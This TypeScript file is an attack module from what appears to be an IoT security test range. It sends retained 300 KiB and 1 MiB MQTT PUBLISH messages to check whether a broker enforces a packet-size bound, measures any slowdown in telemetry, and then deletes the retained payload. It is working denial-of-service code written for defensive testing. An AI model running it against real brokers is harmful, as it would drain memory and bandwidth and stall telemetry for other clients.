/**
 * Oversized payloads over MQTT: PUBLISH messages far larger than any telemetry (300 KiB, then
 * 1 MiB), which a broker without a packet bound reads whole, stores if retained and copies to
 * every subscriber. The embedded broker's framing guard reads the fixed header and drops the
 * connection when the packet is larger than 256 KiB, before the body is read. The range
 * measures whether the broker or line is impaired, and whether its subscriber was handed one.
 */
import { randomBytes } from 'node:crypto';
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { trail } from './common.ts';
import { impaired, impairedText, read, readingImpact, startMeter } from './mqtt-range.ts';

/** payload sizes sent [bytes]: past the embedded broker's bound of 256 KiB */
const SIZES = [300 * 1024, 1024 * 1024];
/** how long the meter reads before and after [ms] */
const READ_MS = 1500;

export const mqttOversized: Attack = {
  id: 'mqtt-oversized',
  title: 'MQTT oversized payloads: PUBLISH of 300 KiB and 1 MiB',
  techniques: [T.denialOfService],
  face: 'mqtt',
  preconditions: ['a connection to the broker (anonymous, or an account the attacker holds)'],
  steps: [
    'the range reads the twin\'s live message rate and the REST answer time, its subscriber on #',
    ...SIZES.map((n) => `CONNECT, PUBLISH ${n / 1024} KiB (QoS 1, retained) to a topic of the attacker's own`),
    'the range reads the rate and answer time again, and whether its subscriber was handed the payload',
  ],
  expectedImpact: 'a broker without a packet bound buffers and fans out every large payload: memory and bandwidth for all clients, slower or stalled telemetry (denial of service)',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { mqttClose, mqttConnect, publish } = await import('../clients/mqtt.ts');
    const evidence: string[] = [];
    const tag = randomBytes(3).toString('hex');
    const { meter, before } = await startMeter(ctx, evidence, tag, READ_MS);
    const results: Record<string, string> = {};
    const topic = `attack/oversized/${tag}`;
    for (const size of SIZES) {
      const c = await mqttConnect(ctx, evidence);
      if (c === null) {
        results[`${size / 1024} KiB`] = 'no connection';
        break;
      }
      const r = await publish(c, topic, Buffer.alloc(size, 0x41), { retain: true });
      await mqttClose(c);
      results[`${size / 1024} KiB`] = r;
      evidence.push(`MQTT: PUBLISH ${size / 1024} KiB to ${topic} → ${r}`);
      if (r === 'acked') ctx.memo.set('retained', topic);
    }
    const after = await read(ctx, meter, READ_MS);
    const delivered = meter?.topics.has(topic) ?? false;
    const harm = impaired(before, after);
    evidence.push(`range: its subscriber was ${delivered ? '' : 'not '}handed the payload; ${impairedText(before, after, 'after')}`);
    await trail(ctx, evidence, Object.values(results).some((r) => r !== 'acked'));
    return { outcome: harm !== null ? 'succeeded' : 'blocked', evidence, impact: { publishes: results, deliveredToSubscribers: delivered, ...readingImpact(before, after) } };
  },
  async cleanup(ctx) {
    const topic = ctx.memo.get('retained');
    if (typeof topic !== 'string') return;
    const { mqttClose, mqttConnect, publish } = await import('../clients/mqtt.ts');
    // an empty retained message removes the stored one
    const c = await mqttConnect(ctx, []);
    if (c !== null) ctx.log(`cleanup: retained payload on ${topic} removed (${await publish(c, topic, '', { retain: true })})`);
    await mqttClose(c);
  },
};
